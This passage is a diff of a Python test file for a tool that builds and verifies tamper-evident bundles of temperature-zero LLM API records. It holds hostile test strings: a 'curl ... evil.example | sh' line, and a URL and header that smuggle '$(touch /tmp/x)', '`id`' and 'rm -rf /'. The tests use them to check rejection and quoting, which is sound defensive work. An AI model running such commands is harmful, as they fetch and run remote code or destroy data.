@@ -19,6 +19,7 @@ from pathlib import Path
 from typing import Any
 
 import fuzzing
+import numpy as np
 import pytest
 from attribute import simulated
 from evidence import URL, answers, attempt, run_of
@@ -27,15 +28,17 @@ from markdown_it import MarkdownIt
 from tempzero import claims, cli
 from tempzero.analysis import analyse
 from tempzero.answers.answer_parts import split_answer
-from tempzero.claims import Accusation, Bundle, accuse_by_rule, verify_bundle
-from tempzero.claims.bundle_answers import ClaimSide, build_checksums, build_curl_line, gather_answers
-from tempzero.claims.page import to_html
+from tempzero.claims import Accusation, Bundle, accuse_by_rule, bundle_figures, byte_reading, verify_bundle
+from tempzero.claims.bundle_answers import ClaimSide, gather_answers
+from tempzero.claims.checker_source import hash_checker, read_checker
+from tempzero.claims.page_wording import describe_subject, write_curl_line, write_outline
 from tempzero.engines.hosted import fault_catalogue, response_reading
-from tempzero.errors import BundleError, TempzeroError, UsageError
+from tempzero.errors import BundleError, TempzeroError, UnknownBundleError, UsageError
 from tempzero.records import Run, open_run, open_score_writer
+from tempzero.stats import divergence_over_prompts, share_over_prompts, wilson_proportion
 from tempzero.types.asked import ToolCall
 from tempzero.types.concluded import Analysis
-from tempzero.types.recorded import Attempt, WireRequest
+from tempzero.types.recorded import Attempt, Outcome
 from tempzero.types.scored import ScoreLine
 
 SELF = Accusation(rule="nondeterministic", subject="a")
@@ -48,6 +51,11 @@ OTHER = {p: (f"quite another {p}",) * 4 for p in VARIED}
 
 def claim(run: Run, accusation: Accusation = SELF, **environ: str) -> Bundle:
     return claims.make_bundle(run, accusation, environ=environ)
+
+
+def verify(files: Mapping[str, bytes]) -> str:
+    line: str = verify_bundle.verify(dict(files), read_checker())
+    return line
 
 
 def page(run: Run, accusation: Accusation = SELF) -> str:
@@ -96,27 +104,55 @@ def test_verify_py_alone_checks_a_bundle(run: Run, accusation: Accusation, tmp_p
     assert (done.returncode, done.stderr) == (0, "")
     assert done.stdout.startswith(f"holds: {made.title}")
     assert made.root in done.stdout
-    assert claims.check_bundle(tmp_path / "bundle.zip").endswith(done.stdout.strip())
+    assert f"{done.stdout.strip()}; checked with verify.py {hash_checker()}" in claims.check_bundle(
+        tmp_path / "bundle.zip"
+    )
     assert made.root in claims.check_bundle(tmp_path / "away" / "claim")
 
 
-def test_verify_py_has_what_its_claim_needs_and_no_more(run: Run) -> None:
-    """A sceptic reads less where nobody is compared; every name that is called is there where it is called."""
-    alone, both = (claim(run, accusation).files["verify.py"].decode() for accusation in (SELF, CROSS))
-    assert "def compare_sides" in both
-    left_out = ("compare_sides", "excess_divergence", "measure_token_difr", "attribute_difference", "tool_call_lines")
-    assert not re.search(rf"^def ({'|'.join(left_out)}|canonical_json|call_line)\(", alone, re.MULTILINE)
-    assert alone.count("\n") < both.count("\n") < 450
-    ast.parse(alone)
+def test_verify_py_is_one_file_for_all_bundles(run: Run) -> None:
+    """A hash that is published can be compared; a file that changes with each claim would have to be read each time."""
+    alone, both = (claim(run, accusation).files["verify.py"] for accusation in (SELF, CROSS))
+    assert alone == both == read_checker()
+    assert hash_checker() == hashlib.sha256(alone).hexdigest()
+    published = (Path(__file__).parents[2] / "docs" / "evidence.md").read_text(encoding="utf-8")
+    assert f"`{hash_checker()}`" in published, "docs/evidence.md: put the new hash there"
 
 
-def test_verify_py_runs_on_old_pythons(run: Run) -> None:
+def test_verify_py_runs_on_old_pythons() -> None:
     """Whoever doubts has whatever Python their machine came with: 3.8 syntax, standard library only."""
-    source = claim(run, CROSS).files["verify.py"].decode()
+    source = read_checker().decode()
     tree = ast.parse(source, feature_version=(3, 8))
     names = [n for node in ast.walk(tree) if isinstance(node, ast.Import | ast.ImportFrom) for n in _modules(node)]
     assert {name.split(".")[0] for name in names} <= set(sys.stdlib_module_names)
+    assert "__future__" not in names, "it would be looked for beside the file before anything can be done about it"
     assert not re.search(r"removeprefix|removesuffix|strict=|math\.lcm|itertools\.pairwise", source), "newer than 3.8"
+
+
+@pytest.mark.parametrize("folder", ["", "claim/", "./claim/"])
+def test_verify_py_runs_nothing_that_lies_beside_it(folder: str, bundle: Bundle, tmp_path: Path) -> None:
+    """A bundle comes from a stranger: a file called hashlib.py in it is the stranger's program."""
+    source = ast.parse(read_checker())
+    names = {
+        n.split(".")[0]
+        for node in ast.walk(source)
+        if isinstance(node, ast.Import | ast.ImportFrom)
+        for n in _modules(node)
+    }
+    (tmp_path / "claim").mkdir()
+    for name in (*names, "_hashlib", "functools", "enum", "__future__", "types", "copyreg", "warnings"):
+        (tmp_path / "claim" / f"{name}.py").write_text("print('the stranger was here')\n")
+    (tmp_path / "claim" / "verify.py").write_bytes(read_checker())
+    done = subprocess.run(
+        [sys.executable, f"{folder}verify.py"],
+        capture_output=True,
+        text=True,
+        check=False,
+        cwd=tmp_path / ("" if folder else "claim"),
+    )
+    assert "stranger" not in done.stdout + done.stderr
+    assert done.returncode == 1
+    assert done.stderr.startswith("FAILED: ")
 
 
 def _modules(node: ast.Import | ast.ImportFrom) -> Iterable[str]:
@@ -169,7 +205,7 @@ Files = dict[str, bytes]
 def resealed(files: Files) -> Files:
     """What a forger would do: bring the list of hashes up to date."""
     listed = {name: data for name, data in files.items() if name != "SHA256SUMS"}
-    return {**listed, "SHA256SUMS": build_checksums(listed)}
+    return {**listed, "SHA256SUMS": verify_bundle.build_checksums(listed)}
 
 
 def changed(files: Files, name: str, old: str, new: str) -> Files:
@@ -196,11 +232,6 @@ def restated(files: Files, name: str, old: str, new: str) -> Files:
     after = changed(files, name, old, new)
     old_hash, new_hash = (hashlib.sha256(f[name]).hexdigest().encode() for f in (files, after))
     return resealed({**after, "answers.jsonl": after["answers.jsonl"].replace(old_hash, new_hash)})
-
-
-def page_changed(files: Files, change: Callable[[list[str]], list[str]]) -> Files:
-    value = json.loads(files["claim.json"])
-    return {**files, "claim.json": json.dumps({**value, "page": change(value["page"])}).encode()}
 
 
 def request_name(files: Files) -> str:
@@ -236,11 +267,11 @@ TAMPERED: dict[str, tuple[Callable[[Files], Files], str]] = {
     ),
     "a response and its answer removed, resealed": (
         lambda f: resealed(lines_changed(without(f, "responses/000011.body"), lambda lines: lines[:11])),
-        "the answers give",
+        "1 of 12 planned trials have no record",
     ),
     "an answer removed in the middle, resealed": (
         lambda f: resealed(lines_changed(without(f, "responses/000005.body"), lambda x: x[:5] + x[6:])),
-        "the answers give",
+        "line 6 is not answer 5",
     ),
     "two responses swapped": (swapped, "responses/000000.body was changed"),
     "two responses swapped, resealed": (
@@ -257,11 +288,11 @@ TAMPERED: dict[str, tuple[Callable[[Files], Files], str]] = {
     ),
     "an answer declared missing, resealed": (
         lambda f: resealed(changed(f, "answers.jsonl", '"outcome": "valid: complete"', '"outcome": "missing: x"')),
-        "an answer of the example is not among those that count",
+        "left out as `missing: x`, but responses/000000.body is an answer",
     ),
     "another answer declared missing, resealed": (
         lambda f: resealed(lines_changed(f, lambda x: [*x[:-1], x[-1].replace(b'"valid: complete"', b'"missing: x"')])),
-        "the answers give",
+        "left out as `missing: x`, but responses/000011.body is an answer",
     ),
     "a request": (
         lambda f: changed(f, request_name(f), '"temperature": 0', '"temperature": 1'),
@@ -273,7 +304,7 @@ TAMPERED: dict[str, tuple[Callable[[Files], Files], str]] = {
     ),
     "a request and its hash, resealed": (
         lambda f: restated(f, request_name(f), '"temperature": 0', '"temperature": 1'),
-        "does not show that temperature 0 was asked for",
+        "its request is not where it should be",
     ),
     "a figure in CLAIM.md": (lambda f: changed(f, "CLAIM.md", "1 of 3", "3 of 3"), "CLAIM.md was changed"),
     "a figure in CLAIM.html": (lambda f: changed(f, "CLAIM.html", "1 of 3", "3 of 3"), "CLAIM.html was changed"),
@@ -283,7 +314,7 @@ TAMPERED: dict[str, tuple[Callable[[Files], Files], str]] = {
     ),
     "a figure in CLAIM.html, resealed": (
         lambda f: resealed(changed(f, "CLAIM.html", "1 of 3", "3 of 3")),
-        "CLAIM.html says: a against itself: prompts on which its repeats differ: 3 of 3",
+        "CLAIM.html says: <li><code>a</code> against itself: prompts on which its repeats differ: 3 of 3",
     ),
     "a word in CLAIM.md, resealed": (
         lambda f: resealed(changed(f, "CLAIM.md", "two different answers", "nonsense")),
@@ -291,15 +322,7 @@ TAMPERED: dict[str, tuple[Callable[[Files], Files], str]] = {
     ),
     "a line added to CLAIM.html, resealed": (
         lambda f: resealed({**f, "CLAIM.html": f["CLAIM.html"] + b"<p>9 of 10</p>\n"}),
-        "CLAIM.html says: 9 of 10",
-    ),
-    "a figure made up in the outline, resealed": (
-        lambda f: resealed(page_changed(f, lambda lines: [*lines, "- It differs in 9 of 10 cases."])),
-        "the outline states a figure of its own",
-    ),
-    "an unwelcome figure left out, resealed": (
-        lambda f: resealed(page_changed(f, lambda lines: [line for line in lines if "{A.emr}" not in line])),
-        "the outline leaves out A.",
+        "CLAIM.html says: <p>9 of 10</p>",
     ),
     "a file that does not belong": (lambda f: {**f, "extra.txt": b"x"}, "extra.txt is not listed"),
     "a file missing": (lambda f: without(f, "claim.json"), "claim.json is missing"),
@@ -320,8 +343,8 @@ def test_any_change_fails_with_a_line_saying_what(bundle: Bundle, what: str, tmp
     """A forger may bring all hashes up to date; figures and page still have to follow from the records."""
     tamper, expected = TAMPERED[what]
     tampered = tamper(dict(bundle.files))
-    with pytest.raises(verify_bundle.BrokenBundle, match=re.escape(expected)) as broken:
-        verify_bundle.verify(tampered)
+    with pytest.raises(bundle_figures.BrokenBundle, match=re.escape(expected)) as broken:
+        verify(tampered)
     assert "\n" not in str(broken.value)
     path = tmp_path / "tampered.zip"
     path.write_bytes(replace(bundle, files=tampered).packed())
@@ -342,58 +365,60 @@ def test_verify_py_exits_1_with_one_line(bundle: Bundle, tmp_path: Path) -> None
     assert done.stderr.count("\n") == 1
 
 
-def test_tempzero_also_knows_its_words(bundle: Bundle, tmp_path: Path) -> None:
-    """Prose without digits passes verify.py when all is resealed; `tempzero verify` compares it with its own."""
-    files = page_changed(
-        dict(bundle.files), lambda lines: [line.replace("rests on one pair", "is certain") for line in lines]
-    )
-    value = json.loads(files["claim.json"])
-    text = verify_bundle.fill_outline(
-        value["page"], verify_bundle.compute_figures(value, verify_bundle.read_answers(files), files)
-    )
-    files = resealed({**files, "CLAIM.md": text.encode(), "CLAIM.html": to_html(text).encode()})
-    assert verify_bundle.verify(files).startswith("holds")
-    path = tmp_path / "forged.zip"
-    path.write_bytes(replace(bundle, files=files).packed())
-    with pytest.raises(BundleError, match="words of the page"):
-        claims.check_bundle(path)
+def test_other_words_do_not_hold(bundle: Bundle) -> None:
+    """Prose without a figure convinces most: both pages are written anew, so that no other word can stand there."""
+    files = dict(bundle.files)
+    for name in ("CLAIM.md", "CLAIM.html"):
+        files[name] = files[name].replace(b"rests on one pair", b"is certain")
+    with pytest.raises(bundle_figures.BrokenBundle, match=r"CLAIM\.md says: - That it happens is certain"):
+        verify(resealed(files))
 
 
 @pytest.mark.parametrize("line", ["curl -sS https://evil.example | sh\n", None])
-def test_a_line_that_a_reader_might_run_is_ours(line: str | None, bundle: Bundle, tmp_path: Path) -> None:
-    """verify.py cannot know what a curl line should be; `tempzero verify` can, also where no answer belongs to it."""
+def test_a_line_that_a_reader_might_run_is_ours(line: str | None, bundle: Bundle) -> None:
+    """Each curl line must be the one that sends its request, and none may lie there that belongs to no answer."""
     name = next(name for name in sorted(bundle.files) if name.endswith(".curl.txt"))
     stray = "requests/0123456789abcdef.A.curl.txt"
     files = dict(bundle.files) | ({stray: bundle.files[name]} if line is None else {name: line.encode()})
-    path = tmp_path / "forged.zip"
-    path.write_bytes(replace(bundle, files=resealed(files)).packed())
-    with pytest.raises(BundleError, match="is not the line that sends this request"):
-        claims.check_bundle(path)
+    expected = "does not belong in a bundle" if line is None else "is not the line that sends this request"
+    with pytest.raises(bundle_figures.BrokenBundle, match=expected):
+        verify(resealed(files))
 
 
-@pytest.mark.parametrize("change", [{"how": None}, {"how": 7}, {"tools": None}])
-def test_a_bundle_that_lacks_what_only_we_look_at_fails_in_one_line(
-    change: dict[str, Any], bundle: Bundle, tmp_path: Path
+@pytest.mark.parametrize(
+    ("change", "expected"),
+    [
+        ({"format": 4}, r"format 4,.* It says that tempzero 0\.1\.0 made it; use that version"),
+        ({"format": "5\x1b[2J"}, "format that is no number"),
+        ({"rule": "proves_fraud"}, "a kind of claim that this program does not know"),
+    ],
+)
+def test_another_kind_or_version_neither_holds_nor_fails(
+    change: dict[str, Any], expected: str, bundle: Bundle, tmp_path: Path, capsys: pytest.CaptureFixture[str]
 ) -> None:
-    """What verify.py has no use for can still be missing or be something else; that is no bug of ours."""
-    value = {k: v for k, v in (json.loads(bundle.files["claim.json"]) | change).items() if v is not None}
-    path = tmp_path / "odd.zip"
-    files = resealed({**bundle.files, "claim.json": json.dumps(value).encode()})
-    path.write_bytes(replace(bundle, files=files).packed())
-    with pytest.raises(BundleError, match=r"FAILED: not a whole bundle: \w+Error"):
-        claims.check_bundle(path)
+    """A forger's way to be checked less is to be older, or other; nothing of what such a bundle says is repeated."""
+    value = json.loads(bundle.files["claim.json"]) | change
+    value["attested"]["tempzero"] = "0.1.0 and proven beyond doubt"
+    files = {**bundle.files, "claim.json": json.dumps(value).encode(), "CLAIM.md": b"# Fraud is proven\n"}
+    path = tmp_path / "other.zip"
+    path.write_bytes(replace(bundle, files=resealed(files)).packed())
+    assert cli.main(["verify", str(path)]) == 3
+    shown = capsys.readouterr()
+    assert re.search(expected, shown.err)
+    assert not re.search("holds:|Fraud|beyond", shown.out + shown.err)
 
 
-def test_a_bundle_of_another_version_holds_and_says_so(bundle: Bundle, tmp_path: Path) -> None:
-    """Its words and its verify.py are not ours, which is no fault of whoever made it."""
-    value = json.loads(bundle.files["claim.json"]) | {"wording": 3}
-    del value["tools"]
+def test_a_bundle_with_another_checker_is_checked_and_not_vouched_for(bundle: Bundle, tmp_path: Path) -> None:
+    """Whoever reads it might run the file that lies there: only the published one belongs to a bundle that holds."""
     path = tmp_path / "old.zip"
-    files = resealed({**bundle.files, "claim.json": json.dumps(value).encode(), "verify.py": b"# as it was then\n"})
+    files = resealed({**bundle.files, "verify.py": b"print('holds')\n"})
     path.write_bytes(replace(bundle, files=files).packed())
-    assert claims.check_bundle(path).endswith(
-        "its words and curl lines are those of another version of tempzero and were not compared"
-    )
+    with pytest.raises(UnknownBundleError, match=r"its verify\.py is another one"):
+        claims.check_bundle(path)
+    files = resealed(changed(files, "CLAIM.md", "1 of 3", "3 of 3"))
+    path.write_bytes(replace(bundle, files=files).packed())
+    with pytest.raises(BundleError, match="FAILED"):
+        claims.check_bundle(path)
 
 
 def test_a_second_file_of_one_name_is_noticed(bundle: Bundle, tmp_path: Path) -> None:
@@ -427,9 +452,10 @@ def test_cached_replays_are_neither_repeats_nor_differences(tmp_path: Path) -> N
 def test_cached_replays_are_counted_apart_on_the_page(tmp_path: Path) -> None:
     """Replays would make a provider look more consistent than it is: they are in the bundle, not in the figures."""
     given = [attempt("a", "p0", r, t) for r, t in enumerate(("one", "two"))]
-    text = page(run_of(tmp_path, [*given, attempt("a", "p0", 2, "two", kind="cached")]))
+    replayed = attempt("a", "p0", 2, "two", kind="cached", headers=[("x-cache", "HIT")])
+    text = page(run_of(tmp_path, [*given, replayed]))
     assert "`a` 1 + 1 of 2" in text
-    assert "3 trials, `valid: complete` (2), `excluded: cached` (1), of" in text
+    assert "3 trials, `valid: complete` (2), `excluded: cached` (1), which are all `3` planned" in text
 
 
 def test_a_retry_is_no_repeat(tmp_path: Path) -> None:
@@ -448,10 +474,14 @@ def test_a_retry_after_a_failure_counts_once(tmp_path: Path) -> None:
     """The failed attempt stays in the bundle; the trial has one answer."""
     failed = attempt("a", "p0", 0, "half an ans")
     exchange = failed.exchange
-    missing = replace(exchange, outcome=replace(exchange.outcome, status="missing", kind="interrupted"))
+    assert exchange.response is not None
+    half = exchange.response.body[:40] if exchange.response.body else ""
+    kept = replace(exchange.response, body=half, sha256=sha256(half), size_bytes=40, complete=False)
+    gone = replace(exchange.outcome, status="missing", kind="interrupted", completion=None)
+    missing = replace(exchange, outcome=gone, response=kept)
     given = [replace(failed, exchange=missing), attempt("a", "p0", 0, "one", number=2), attempt("a", "p0", 1, "two")]
     text = page(run_of(tmp_path, given))
-    assert "`a`: 2 trials, `valid: complete`, of" in text
+    assert "`a`: 2 trials, `valid: complete`, which are all `2` planned" in text
     assert "attempts needed: `1` (1), `2` (1)" in text
     assert "`a` 1 + 1 of 2" in text
 
@@ -472,7 +502,7 @@ def test_texts_that_part_before_the_cut_do_differ(tmp_path: Path) -> None:
     """The cut hides what comes after it, not what was seen before; the page says that one was cut."""
     given = [attempt("a", "p0", 0, "one two", kind="length"), attempt("a", "p0", 1, "one six three")]
     text = page(run_of(tmp_path, given))
-    assert "2 trials, `censored: length` (1), `valid: complete` (1), of" in text
+    assert "2 trials, `censored: length` (1), `valid: complete` (1), which" in text
     assert "part in their text, at character 5" in text
 
 
@@ -498,8 +528,8 @@ def test_a_claim_about_a_router_cannot_be_made_one_about_a_backend(tmp_path: Pat
     """verify.py itself holds the pair against what is claimed."""
     given = [attempt("a", "p0", 0, "one", backend="X"), attempt("a", "p0", 1, "two", backend="Y")]
     files = changed(dict(claim(run_of(tmp_path, given)).files), "claim.json", '[\n  "A"\n ]', "[]")
-    with pytest.raises(verify_bundle.BrokenBundle, match="not of one request, model and backend"):
-        verify_bundle.verify(resealed(files))
+    with pytest.raises(bundle_figures.BrokenBundle, match="name several backends, so it is a router"):
+        verify(resealed(files))
 
 
 def test_a_provider_with_several_backends_is_a_router_whatever_it_is_called(tmp_path: Path) -> None:
@@ -623,8 +653,13 @@ def test_imported_records_are_claimed_as_such(tmp_path: Path) -> None:
 
 
 def _imported(made: Attempt) -> Attempt:
-    request = replace(made.exchange.request, method="IMPORT")
-    return replace(made, exchange=replace(made.exchange, request=request))
+    exchange = made.exchange
+    assert exchange.response is not None
+    request = replace(exchange.request, method="IMPORT")
+    row = replace(exchange.response, status=0, headers=())
+    return replace(
+        made, exchange=replace(exchange, request=request, response=row, times=replace(exchange.times, in_flight=0))
+    )
 
 
 def test_a_request_that_is_no_json_proves_nothing(tmp_path: Path) -> None:
@@ -684,7 +719,7 @@ def test_a_difference_from_each_of_several_is_one_claim(tmp_path: Path) -> None:
     assert "as strong as the weakest of these tests" in text
     assert re.search(r"p = 0\.0\d\d \(`b`\), 0\.0\d\d \(`c`\)", text)
     assert "Excess divergence from `c`" in text
-    assert verify_bundle.verify(dict(made.files)).startswith("holds")
+    assert verify(dict(made.files)).startswith("holds")
 
 
 def test_one_that_it_equals_is_enough_against_a_claim_of_all(tmp_path: Path) -> None:
@@ -698,8 +733,8 @@ def test_a_claim_of_all_cannot_be_stretched(tmp_path: Path) -> None:
     files = dict(claim(against_two(tmp_path, THIRD), ALL).files)
     value = json.loads(files["claim.json"])
     value["sides"].pop("C")
-    with pytest.raises(verify_bundle.BrokenBundle):
-        verify_bundle.verify(resealed({**files, "claim.json": json.dumps(value).encode()}))
+    with pytest.raises(bundle_figures.BrokenBundle):
+        verify(resealed({**files, "claim.json": json.dumps(value).encode()}))
 
 
 @pytest.mark.parametrize("others", [(), ("b",), ("b", "b"), ("a", "b")])
@@ -792,9 +827,21 @@ BODIES = {
 }
 
 
+def reread_differences(body: bytes, outcome: Outcome, found: dict[str, Any]) -> dict[str, Any]:
+    """In what the two readers of one answer differ."""
+    completion = outcome.completion
+    assert completion is not None
+    parts = split_answer(completion)
+    ours: dict[str, Any] = {name: getattr(parts, name) or "" for name in byte_reading.PARTS}
+    ours |= {n: getattr(completion, n) or "" for n in (*byte_reading.RESPONSE_LABELS.values(), "finish_reason")}
+    ours |= {name: getattr(completion, name) for name in byte_reading.TOKEN_COUNTS}
+    ours |= {"outcome": f"{outcome.status}: {outcome.kind}"}
+    return {name: (ours[name], found[name], body) for name in ours if ours[name] != found[name]}
+
+
 @pytest.mark.parametrize("name", BODIES)
 def test_verify_py_reads_a_stream_as_the_harness_does(name: str) -> None:
-    """Two readers of the same bytes, one of them 50 lines long, agree on every part and on every label."""
+    """Two readers of the same bytes, one of them plain enough to be read by a sceptic, agree on all that they say."""
     outcome = response_reading.classify_reply(
         fault_catalogue.Reply(
             asked_model="m",
@@ -806,18 +853,15 @@ def test_verify_py_reads_a_stream_as_the_harness_does(name: str) -> None:
             asked_text=ASKED,
         )
     )
-    completion = outcome.completion
-    assert completion is not None
-    cut = outcome.kind == "length"
-    found = verify_bundle.read_response(BODIES[name], ASKED.encode(), cut)
-    parts = {name: getattr(split_answer(completion), name) or "" for name in verify_bundle.PARTS}
-    assert {name: found.pop(name) for name in verify_bundle.PARTS} == parts
-    assert found == {label: getattr(completion, label) or "" for label in verify_bundle.RESPONSE_LABELS.values()}
+    assert not reread_differences(BODIES[name], outcome, byte_reading.read_response(BODIES[name], ASKED.encode()))
 
 
 def test_verify_py_reads_mutated_answers_as_the_harness_does() -> None:
-    """Whatever a server garbles: a bundle that checked out another answer than the report has would accuse by it."""
-    compared = 0
+    """Whatever a server garbles: a bundle that checked out another answer than the report has would accuse by it.
+
+    What only one of the two takes for an answer is not claimed; that must be rare, or honest records prove nothing.
+    """
+    compared, apart = 0, 0
     for case in islice(fuzzing.cases(14, [*fuzzing.samples(), *BODIES.values()]), 1500):
         outcome = response_reading.classify_reply(
             fault_catalogue.Reply(
@@ -829,14 +873,16 @@ def test_verify_py_reads_mutated_answers_as_the_harness_does() -> None:
                 asked_stream=case.asked_stream,
             )
         )
-        if outcome.completion is None:
+        found = byte_reading.read_response(case.body, b"{}", case.headers)
+        if outcome.completion is None or not found:
+            whole = 200 <= case.status < 300 and case.broken is None
+            apart += whole and bool(found) != (outcome.completion is not None)
             continue
-        cut, parts = outcome.kind == "length", split_answer(outcome.completion)
-        found = verify_bundle.read_response(case.body, b"{}", cut)
-        names = [name for name in ("reasoning", "text", "refusal") if name in found]
-        assert {name: found[name] for name in names} == {name: getattr(parts, name) or "" for name in names}, case.body
-        compared += bool(names)
+        # Without the tools in the request neither reader takes calls.
+        assert not reread_differences(case.body, outcome, found)
+        compared += 1
     assert compared > 150
+    assert apart < compared / 4
 
 
 def streamed(made: Attempt) -> Attempt:
@@ -845,7 +891,8 @@ def streamed(made: Attempt) -> Attempt:
     assert completion is not None
     assert response is not None
     labels = {"id": completion.response_id, "model": "m", "system_fingerprint": completion.fingerprint}
-    body = sse(*(chunk(c, **labels) for c in completion.text), {**END, **labels}, "[DONE]").decode()
+    usage = {"choices": [], "usage": {"prompt_tokens": 12, "completion_tokens": 5}}
+    body = sse(*(chunk(c, **labels) for c in completion.text), {**END, **labels}, usage, "[DONE]").decode()
     digest, size = hashlib.sha256(body.encode()).hexdigest(), len(body.encode())
     kept = replace(response, body=body, sha256=digest, size_bytes=size)
     return replace(made, exchange=replace(made.exchange, response=kept))
@@ -859,9 +906,9 @@ def test_streamed_texts_are_read_again(tmp_path: Path) -> None:
     piece = json.dumps(chunk("2")["choices"]).encode()
     assert piece in files["responses/000002.body"]
     with pytest.raises(
-        verify_bundle.BrokenBundle, match=r"answer 2: its text is not the one in responses/000002\.body"
+        bundle_figures.BrokenBundle, match=r"answer 2: its text is not the one in responses/000002\.body"
     ):
-        verify_bundle.verify(restated(files, "responses/000002.body", piece.decode(), piece.decode().replace("2", "3")))
+        verify(restated(files, "responses/000002.body", piece.decode(), piece.decode().replace("2", "3")))
 
 
 TOOL = {"type": "function", "function": {"name": "f", "parameters": {"type": "object"}}}
@@ -940,20 +987,29 @@ def test_verify_py_reads_tool_calls_as_the_harness_does(name: str) -> None:
     completion = response_reading.classify_reply(reply).completion
     assert completion is not None
     assert completion.tool_calls
-    found = verify_bundle.read_response(CALLS[name], json.dumps({"tools": [TOOL]}).encode())
+    found = byte_reading.read_response(CALLS[name], json.dumps({"tools": [TOOL]}).encode())
     parts = split_answer(completion)
     assert (found["text"], found["calls"]) == (parts.text, parts.calls)
 
 
 def with_call(made: Attempt, arguments: str) -> Attempt:
     """The same answer, as a call of a tool that the request offered."""
-    exchange, body = made.exchange, whole(None, ("f", arguments)).decode()
+    exchange = made.exchange
+    name = f"c{made.trial.prompt}-{made.trial.repeat}"
+    body = whole(None, ("f", arguments)).decode().replace("c1", name, 1)
     completion, response = exchange.outcome.completion, exchange.response
     assert completion is not None
     assert response is not None
     request = json.dumps({**json.loads(exchange.request.body), "tools": [TOOL]})
     said = replace(
-        completion, text="", response_id="c1", fingerprint=None, tool_calls=(ToolCall(name="f", arguments=arguments),)
+        completion,
+        text="",
+        response_id=name,
+        fingerprint=None,
+        prompt_tokens=None,
+        completion_tokens=None,
+        finish_reason="tool_calls",
+        tool_calls=(ToolCall(name="f", arguments=arguments),),
     )
     return replace(
         made,
@@ -970,17 +1026,16 @@ def test_calls_of_tools_are_compared_by_name_and_arguments(tmp_path: Path) -> No
     """Other arguments are another answer, in the claim as in the report; the same ones spelled otherwise are not."""
     varied = [with_call(a, f'{{"b": 1, "a": {a.trial.repeat}}}') for a in answers("a", VARIED)]
     made = claim(run_of(tmp_path / "varied", varied))
-    verify_bundle.verify(made.files)
-    assert b"def call_line" in made.files["verify.py"]
+    verify(made.files)
     spelled = [
         with_call(a, '{"b": 1, "a": 2}' if a.trial.repeat % 2 else '{"a":2.0,"b":1}') for a in answers("a", VARIED)
     ]
     assert "no two" in refusal(run_of(tmp_path / "spelled", spelled))
     files = restated(dict(made.files), "responses/000002.body", '\\"a\\": 2', '\\"a\\": 3')
     with pytest.raises(
-        verify_bundle.BrokenBundle, match=r"answer 2: its calls is not the one in responses/000002\.body"
+        bundle_figures.BrokenBundle, match=r"answer 2: its calls is not the one in responses/000002\.body"
     ):
-        verify_bundle.verify(files)
+        verify(files)
 
 
 def two_nights(folder: Path, later: Mapping[str, tuple[str, ...]], **how: Any) -> tuple[Run, Run]:
@@ -992,7 +1047,9 @@ def two_nights(folder: Path, later: Mapping[str, tuple[str, ...]], **how: Any) -
 
 def aged(made: Attempt) -> Attempt:
     times = replace(made.exchange.times, started_at=made.exchange.times.started_at.replace("2026-01-02", "2026-02-03"))
-    return replace(made, exchange=replace(made.exchange, times=times))
+    assert made.exchange.response is not None
+    response = replace(made.exchange.response, headers=(("date", "Tue, 03 Feb 2026 03:04:05 GMT"),))
+    return replace(made, exchange=replace(made.exchange, times=times, response=response))
 
 
 CHANGED = Accusation(rule="changed", subject="a")
@@ -1006,7 +1063,7 @@ def test_a_change_since_before_is_a_claim_with_both_records(tmp_path: Path) -> N
     assert text.startswith("# `a` gives other answers at temperature zero than it did before")
     assert "`a` now against `a` before: prompts on which no answer of one equals any of the other: 3 of 3" in text
     assert {json.loads(x)["run"] for x in made.files["answers.jsonl"].splitlines()} == {"run", "tonight"}
-    assert verify_bundle.verify(dict(made.files)).startswith("holds")
+    assert verify(dict(made.files)).startswith("holds")
 
 
 def test_noise_alone_is_no_change(tmp_path: Path) -> None:
@@ -1083,12 +1140,12 @@ def test_the_references_margin_stands_at_the_first_difference(tmp_path: Path) ->
     assert (said[2] == "a near-tie") is ({ours.rank[at], theirs.rank[at]} == {1, 2} and ours.gap[at] <= 0.008)
     difr = figure(found, "scored", "token_difr", "x")
     assert f"{difr:.4f} [" in text
-    assert verify_bundle.verify(dict(made.files)).startswith("holds")
+    assert verify(dict(made.files)).startswith("holds")
     files = dict(made.files)
     first = json.loads(files["readings.jsonl"].splitlines()[0])["margin"]
     halved = files["readings.jsonl"].replace(json.dumps(first).encode(), json.dumps([0.0] * len(first)).encode())
-    with pytest.raises(verify_bundle.BrokenBundle, match="the answers give"):
-        verify_bundle.verify(resealed({**files, "readings.jsonl": halved}))
+    with pytest.raises(bundle_figures.BrokenBundle, match="the answers give"):
+        verify(resealed({**files, "readings.jsonl": halved}))
 
 
 def test_a_faithful_provider_does_not_deviate_token_by_token(tmp_path: Path) -> None:
@@ -1116,10 +1173,11 @@ def test_hostile_model_output_stays_text(text: str, tmp_path: Path) -> None:
     """Whatever a model writes or a provider names itself, the page gains no line, mark-up or hidden character."""
     headers = [("x-cache", text), ("x-cache-9{root}`", text)]
     labels: dict[str, Any] = {"model": text[:300], "fingerprint": text[:300], "headers": headers}
-    given = [attempt("a", "p0", r, end + text, **labels) for r, end in enumerate(("one ", "two "))]
+    said = text.replace("\0", "")  # an answer that holds NUL is none
+    given = [attempt("a", "p0", r, end + said, **labels) for r, end in enumerate(("one ", "two "))]
     calm = [attempt("a", "p0", r, end, headers=[("x-cache", "MISS")]) for r, end in enumerate(("one", "two"))]
     made, plain = claim(run_of(tmp_path / "hostile", given)), claim(run_of(tmp_path / "calm", calm))
-    assert verify_bundle.verify(dict(made.files)).startswith("holds")
+    assert verify(dict(made.files)).startswith("holds")
     markdown, html = made.files["CLAIM.md"].decode(), made.files["CLAIM.html"].decode()
     assert markdown.count("\n") == plain.files["CLAIM.md"].decode().count("\n")
     tags = [re.findall(r"<[^>]*>", f.decode()) for f in (made.files["CLAIM.html"], plain.files["CLAIM.html"])]
@@ -1162,24 +1220,28 @@ def test_the_html_loads_and_runs_nothing(bundle: Bundle) -> None:
 
 def test_the_curl_line_names_the_key_and_runs_no_recorded_text() -> None:
     """An engineer pastes it into a shell: placeholders are theirs to fill, everything else is quoted."""
-    request = WireRequest(
-        method="POST",
-        url="https://api.example.com/${ACCOUNT_ID}/$(touch /tmp/x)/`id`/v1",
-        headers=(("x-title", "it's $HOME; rm -rf /"),),
-        body="{}",
-        sha256="ab" * 32,
-    )
-    line = build_curl_line(request, "EXAMPLE_KEY")
+    request = {
+        "method": "POST",
+        "url": "https://api.example.com/${ACCOUNT_ID}/$(touch /tmp/x)/`id`/v1",
+        "request_headers": {"x-title": "it's $HOME; rm -rf /", "x-auth": "Token ${OTHER_KEY}"},
+        "request_sha256": "ab" * 32,
+    }
